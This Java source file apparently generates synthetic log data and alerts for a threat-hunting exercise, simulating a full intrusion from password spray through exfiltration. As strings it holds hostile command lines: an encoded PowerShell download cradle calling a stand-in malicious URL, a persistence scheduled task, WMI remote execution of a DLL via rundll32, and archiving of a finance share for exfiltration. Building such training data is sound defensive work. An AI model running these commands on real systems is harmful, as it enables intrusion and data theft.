package dev.hunt4j.samples;

import static dev.hunt4j.samples.SampleDataSet.ATTACKER_IP;
import static dev.hunt4j.samples.SampleDataSet.COMPROMISED_USER;
import static dev.hunt4j.samples.SampleDataSet.LATERAL_TARGET_HOST;
import static dev.hunt4j.samples.SampleDataSet.MALICIOUS_DOMAIN;
import static dev.hunt4j.samples.SampleDataSet.PATIENT_ZERO_HOST;
import static dev.hunt4j.samples.SampleDataSet.PAYLOAD_PATH;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;

/**
 * The planted intrusion, on day 2 (2026-03-03) in office hours: password spray against the DC,
 * RDP logon as the sprayed user on her workstation, encoded PowerShell download cradle, C2 beacons,
 * discovery, persistence, WMI lateral movement to the file server, and staging plus exfiltration
 * there the following night. Every step leaves consistent traces across the files.
 */
final class AttackStory {
  /** What the encoded PowerShell command runs. */
  static final String SCRIPT =
      "IEX (New-Object Net.WebClient).DownloadString('" + SampleDataSet.PAYLOAD_URL + "')";
  /** {@code -enc} takes base64 of the UTF-16LE script text. */
  static final String ENCODED =
      Base64.getEncoder().encodeToString(SCRIPT.getBytes(StandardCharsets.UTF_16LE));
  /** NetBIOS name the attacker's machine announced in its NTLM and RDP logons. */
  static final String ATTACKER_WORKSTATION = "WIN-K8T2PQ7M3LD";
  static final String DLL = "C:\\ProgramData\\upd.dat";

  private final Output out;
  private final Net net;
  private final WindowsActivity win;
  private final Rng r;

  AttackStory(Output out, Net net, WindowsActivity win, Rng r) {
    this.out = out;
    this.net = net;
    this.win = win;
    this.r = r;
  }

  void run() {
    WinHost dc = win.host(Topology.DC.name());
    WinHost wks = win.host(PATIENT_ZERO_HOST);
    WinHost srv = win.host(LATERAL_TARGET_HOST);
    Topology.User victim = Topology.user(COMPROMISED_USER);

    // 1. password spray against the DC over SMB/NTLM
    List<String> targets = new ArrayList<>();
    for (Topology.User u : Topology.USERS) {
      if (u.kind() != Topology.Kind.SERVICE && u.kind() != Topology.Kind.ADMIN) {
        targets.add(u.name());
      }
    }
    targets.addAll(Topology.SPRAY_NONEXISTENT);
    long t = T.at(1, 10, 12, 7, 311);
    long sprayStart = t;
    long sprayEnd = t;
    int failures = 0;
    for (int round = 0; round < 2; round++) {
      List<String> order = shuffled(targets);
      if (round == 1) {
        order.remove(COMPROMISED_USER); // the second password was tried over RDP instead
      }
      for (String name : order) {
        boolean exists = !Topology.SPRAY_NONEXISTENT.contains(name);
        net.flow(t - r.between(40, 160), dc.name, ATTACKER_IP, r.between(40000, 60999), dc.ip, 445,
            "T", "I", r.between(1800, 2600), r.between(1200, 1700), "System");
        dc.failedLogon(t, 3, Topology.DOMAIN, name, "NtLmSsp", "NTLM", ATTACKER_IP,
            ATTACKER_WORKSTATION, exists ? "0xc000006a" : "0xc0000064");
        failures++;
        sprayEnd = t;
        t += r.between(3500, 9000);
      }
      t += r.between(40_000, 70_000);
    }
    out.alerts.add(new Alert(sprayEnd + 94 * T.SEC, "Password spray attack detected", "Medium",
        failures + " failed network logons for " + targets.size() + " distinct accounts from "
        + ATTACKER_IP + " against WIN-DC01 between " + Fmt.iso(sprayStart).substring(11, 19)
        + " and " + Fmt.iso(sprayEnd).substring(11, 19) + " UTC.", dc.name,
        "ASI Scheduled Alerts", "ASI_PasswordSpray",
        new Alert.Entities().ip(ATTACKER_IP).host(dc.name).json(), "CredentialAccess"));

    // 2. RDP logon as the victim on her (unattended, left on) workstation
    long rdp = T.at(1, 10, 23, 41, 207);
    net.flow(rdp - 2600, wks.name, ATTACKER_IP, r.between(40000, 60999), wks.ip, 3389, "T", "I",
        2_480_113, 31_902_445, "svchost.exe");
    long logonId = wks.logon(rdp, 10, victim.account(), "User32", "Negotiate", ATTACKER_IP,
        ATTACKER_WORKSTATION);
    Session s = win.rdpSession(wks, rdp, T.FAR, victim, logonId, Identity.LIMITED);
    Identity id = s.id;
    out.alerts.add(new Alert(rdp + 48 * T.SEC, "Successful logon from a password spray source",
        "High", "CONTOSO\\" + COMPROMISED_USER + " logged on to " + wks.name + " over Remote "
        + "Desktop from " + ATTACKER_IP + ", an address that failed " + failures + " logons "
        + "minutes earlier.", wks.name, "ASI Scheduled Alerts", "ASI_SprayFollowedBySuccess",
        new Alert.Entities().account(victim.account()).host(wks.name).ip(ATTACKER_IP).json(),
        "InitialAccess, CredentialAccess"));

    // 3. encoded PowerShell download cradle, second stage, dropped binary
    t = T.at(1, 10, 25, 10, 44);
    WinProc cmd = WindowsActivity.withConsole(wks.spawn(s.explorer, t, Img.CMD,
        "\"C:\\Windows\\system32\\cmd.exe\" ", id, 40 * T.MIN));
    long tp = T.at(1, 10, 25, 33, 612);
    WinProc ps = wks.spawn(cmd, tp, Img.POWERSHELL, "powershell.exe -nop -w hidden -enc " + ENCODED,
        id, 31 * T.SEC);
    net.connect(tp + 1480, wks.name, wks.ip, MALICIOUS_DOMAIN, 80, 412, 5318, "powershell.exe", r,
        false);
    net.connect(tp + 17_904, wks.name, wks.ip, MALICIOUS_DOMAIN, 80, 398, 318_976,
        "powershell.exe", r, false);
    out.alerts.add(new Alert(tp + 2210, "Suspicious encoded PowerShell command line", "High",
        "powershell.exe was started hidden with a base64-encoded command (-enc) that downloads and "
        + "runs a script from the internet.", wks.name, "MDATP", "WindowsDefenderAtp_EncodedPS",
        new Alert.Entities().host(wks.name).account(victim.account()).process(ps)
            .url(SampleDataSet.PAYLOAD_URL).json(), // AMSI saw the decoded script
        "Execution, DefenseEvasion"));
    long td = T.at(1, 10, 25, 58, 301);
    WinProc drop = wks.spawn(ps, td, PAYLOAD_PATH, Img.quoted(PAYLOAD_PATH) + " ", id,
        WindowsActivity.FOREVER);
    out.alerts.add(new Alert(td + 19_340, "Executable launched from a user temp folder by PowerShell",
        "Medium", "svc-upd.exe, written to the user's temp folder seconds earlier, was started by "
        + "a hidden PowerShell process and connected to the internet.", wks.name, "MDATP",
        "WindowsDefenderAtp_TempExecution", new Alert.Entities().host(wks.name)
            .account(victim.account()).process(drop)
            .file(PAYLOAD_PATH, SampleDataSet.PAYLOAD_SHA256, SampleDataSet.PAYLOAD_MD5).json(),
        "Execution"));
    for (long b = td + 6_000; b < T.END; b += 300_000 + r.between(-30_000, 30_000)) {
      net.connect(b, wks.name, wks.ip, MALICIOUS_DOMAIN, 443, r.between(180, 1400),
          r.between(90, 2100), "svc-upd.exe", r, false);
    }

    // 4. discovery and persistence from the implant
    run(wks, drop, T.at(1, 10, 28, 12, 90), id, "whoami /all", "whoami.exe", "whoami  /all");
    long tn = T.at(1, 10, 28, 40, 517);
    WinProc netExe = run(wks, drop, tn, id, "net group \"domain admins\" /domain", "net.exe",
        "net  group \"domain admins\" /domain");
    wks.spawn(netExe, netExe.start + 131, Img.SYS32 + "net1.exe",
        "C:\\Windows\\system32\\net1  group \"domain admins\" /domain", id, 900);
    win.dcUser(tn + 700, victim.account(), wks);
    net.flow(tn + 760, wks.name, wks.ip, Net.ephemeral(r, false), dc.ip, 445, "T", "O", 3900, 5200,
        "System");
    run(wks, drop, T.at(1, 10, 29, 15, 3), id, "nltest /dclist:contoso.local", "nltest.exe",
        "nltest  /dclist:contoso.local");
    long tv = T.at(1, 10, 30, 2, 640);
    run(wks, drop, tv, id, "net view \\\\SRV-FILE01", "net.exe", "net  view \\\\SRV-FILE01");
    win.fileShare(tv + 400, victim.account(), wks, 4100);
    run(wks, drop, T.at(1, 10, 31, 20, 155), id, "ipconfig /all", "ipconfig.exe",
        "ipconfig  /all");
    run(wks, drop, T.at(1, 10, 33, 5, 902), id, "schtasks /create /tn \"OneDrive Standalone Update"
        + "\" /tr " + PAYLOAD_PATH + " /sc onlogon /rl limited /f", "schtasks.exe",
        "schtasks  /create /tn \"OneDrive Standalone Update\" /tr " + PAYLOAD_PATH
        + " /sc onlogon /rl limited /f");

    // 5. lateral movement: copy the DLL over SMB, run it with WMI
    long tc = T.at(1, 10, 40, 31, 408);
    run(wks, drop, tc, id, "copy C:\\Users\\" + COMPROMISED_USER + "\\AppData\\Local\\Temp\\upd.dat "
        + "\\\\SRV-FILE01\\C$\\ProgramData\\upd.dat", null, null);
    win.fileShare(tc + 380, victim.account(), wks, 3100);
    long tw = T.at(1, 10, 41, 5, 219);
    String remoteCmd = "cmd.exe /c rundll32.exe " + DLL + ",DllRegisterServer";
    run(wks, drop, tw, id, "wmic /node:SRV-FILE01 process call create \"" + remoteCmd + "\"",
        "wbem\\WMIC.exe", "wmic  /node:SRV-FILE01 process call create \"" + remoteCmd + "\"");
    net.flow(tw + 420, wks.name, wks.ip, Net.ephemeral(r, false), srv.ip, 135, "T", "O", 1900,
        1400, "WMIC.exe");
    net.flow(tw + 610, wks.name, wks.ip, Net.ephemeral(r, false), srv.ip, 49668, "T", "O", 7700,
        5600, "WMIC.exe");
    long remoteLogon = srv.logon(tw + 540, 3, victim.account(), "Kerberos", "Kerberos", wks.ip,
        "-");
    Identity remote = new Identity(victim.account(), remoteLogon, Identity.FULL);
    Boot sb = srv.bootAt(tw);
    WinProc wmi = srv.spawn(sb.dcom, tw + 1290, Img.WMIPRVSE,
        "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", srv.networkService,
        20 * T.MIN);
    // WmiPrvSE impersonates its caller, so the 4688 names the remote user as the creator
    WinProc rcmd = WindowsActivity.withConsole(srv.spawnAs(wmi, tw + 1847, Img.CMD, remoteCmd,
        remote, 2 * T.SEC, remote));
    WinProc rundll = srv.spawn(rcmd, tw + 2166, Img.RUNDLL32, "rundll32.exe  " + DLL
        + ",DllRegisterServer", remote, WindowsActivity.FOREVER);
    for (long b = tw + 9_000; b < T.END; b += 600_000 + r.between(-90_000, 90_000)) {
      net.connect(b, srv.name, srv.ip, MALICIOUS_DOMAIN, 443, r.between(200, 1600),
          r.between(90, 2400), "rundll32.exe", r, false);
    }
    out.alerts.add(new Alert(rcmd.start + 41_120, "Remote process creation via WMI", "High",
        "WmiPrvSE.exe on SRV-FILE01 started cmd.exe and rundll32.exe with a DLL in ProgramData on "
        + "behalf of CONTOSO\\" + COMPROMISED_USER + " connecting from " + wks.name + " ("
        + wks.ip + ").", srv.name, "MDATP", "WindowsDefenderAtp_WmiRemoteExec",
        new Alert.Entities().host(srv.name).host(wks.name).account(victim.account()).ip(wks.ip)
            .process(rcmd).process(rundll)
            .file(DLL, SampleDataSet.DLL_SHA256, Hashes.md5Hex(SampleDataSet.DLL_CONTENT)).json(),
        "LateralMovement, Execution"));

    // 6. next night: stage the finance share and send it out
    String zip = "C:\\ProgramData\\f.zip";
    String compress = "powershell -nop -c \"Compress-Archive -Path D:\\Shares\\Finance "
        + "-DestinationPath " + zip + "\"";
    run(srv, rundll, T.at(2, 2, 5, 17, 402), remote, compress, "WindowsPowerShell\\v1.0\\"
        + "powershell.exe", compress.replaceFirst("powershell ", "powershell  "));
    net.connect(T.at(2, 2, 14, 3, 11), srv.name, srv.ip, MALICIOUS_DOMAIN, 443, 268_913_177, 48_211,
        "rundll32.exe", r, false);
    run(srv, rundll, T.at(2, 2, 31, 40, 7), remote, "del /q " + zip, null, null);

    // 7. the scheduled task fires when the victim logs on at her desk on day 3
    Session back = win.sessionOf(COMPROMISED_USER, 2);
    if (back != null) {
      wks.spawn(back.boot.schedule, back.start + 9_404, PAYLOAD_PATH, Img.quoted(PAYLOAD_PATH)
          + " ", back.id, 2_600); // exits at once: the first instance still holds its mutex
    }
  }

  /**
   * {@code cmd.exe /C args} from the implant (with its conhost), and the program it runs; returns
   * that program's process, or cmd.exe for shell built-ins.
   */
  private WinProc run(WinHost h, WinProc parent, long t, Identity id, String args, String image,
      String cmdline) {
    long delay = r.between(120, 400);
    long life = image == null ? 0 : image.contains("powershell") ? 5 * T.MIN : r.between(900, 4000);
    WinProc cmd = WindowsActivity.withConsole(h.spawn(parent, t, Img.CMD,
        "C:\\Windows\\system32\\cmd.exe /C " + args, id, delay + life + r.between(30, 200)));
    if (image == null) {
      return cmd;
    }
    return h.spawn(cmd, t + delay, Img.SYS32 + image, cmdline, id, life);
  }

  private List<String> shuffled(List<String> items) {
    List<String> l = new ArrayList<>(items);
    for (int i = l.size() - 1; i > 0; i--) {
      int j = r.nextInt(i + 1);
      String x = l.get(i);
      l.set(i, l.get(j));
      l.set(j, x);
    }
    return l;
  }
}
